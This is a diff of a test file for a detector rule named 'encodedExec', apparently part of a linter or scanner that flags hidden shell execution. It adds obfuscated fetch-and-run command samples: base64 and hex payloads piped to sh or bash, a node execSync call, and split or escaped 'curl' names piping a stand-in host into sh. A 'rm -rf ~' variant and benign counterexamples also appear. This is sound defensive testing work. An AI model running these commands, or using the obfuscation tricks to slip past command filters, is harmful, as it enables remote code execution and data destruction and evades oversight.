@@ -24,12 +24,19 @@ test.each([
   "echo Y3VybCBleGFtcGxlLmNvbQ==|base64${IFS}-d|sh",
   "```bash\nbase64 -d <<EOF | sh\nY3VybCBleGFtcGxlLmNvbQ==\nEOF\n```",
   "```bash\necho Y3VybCBleGFtcGxlLmNvbQ== | base64 -d > /tmp/.run\nsh /tmp/.run\n```",
+  "sh <<< $(base64 -d <<< Y3VybCBleGFtcGxlLmNvbQ==)",
+  "node -e \"require('child_process').execSync(Buffer.from('Y3VybCBleGFtcGxlLmNvbQ==','base64')+'')\"",
+  "echo 6563686f206d61726b657220646f6e6520 | xxd -p -r | bash",
+  "eval \"$(printf '%b' '\\143\\165\\162\\154\\040\\141\\056\\142')\"",
   // What harms is spelled so that nobody knows it.
   "$'\\x63url' -s https://x.example.invalid/i | sh",
   "cu''rl -s https://x.example.invalid/i | ba''sh",
   "w\\get -qO- https://x.example.invalid/i | sh",
   "c=curl; $c -s https://x.example.invalid/i | sh",
   "r=rm; $r -rf ~",
+  "a=cu; b=rl; $a$b -s https://x.example.invalid/i | sh",
+  "\\c\\u\\r\\l -s https://x.example.invalid/i | sh",
+  "c$@url -s https://x.example.invalid/i | sh",
 ])("finds %j", (text) => {
   expect(check(encodedExec, withBody(text)).diagnostics).not.toEqual([]);
 });
@@ -44,6 +51,9 @@ test.each([
   "```bash\nD=/tmp/work\ncd $D && rm -rf build\n```",
   "```bash\nNAME=app\n$NAME --help\n```",
   "don't use `it''s`",
+  'printf "\\033[31mred\\033[0m"',
+  "node -e \"require('child_process').execSync('npm test')\"",
+  "BIN=./node_modules/.bin; $BIN/eslint .",
   "git log --oneline | rev | cut -c1-9",
   "echo aGVsbG8gd29ybGQgYWdhaW4= | base64 -d > out.txt && cat out.txt",
 ])("stays silent on %j", (text) => {
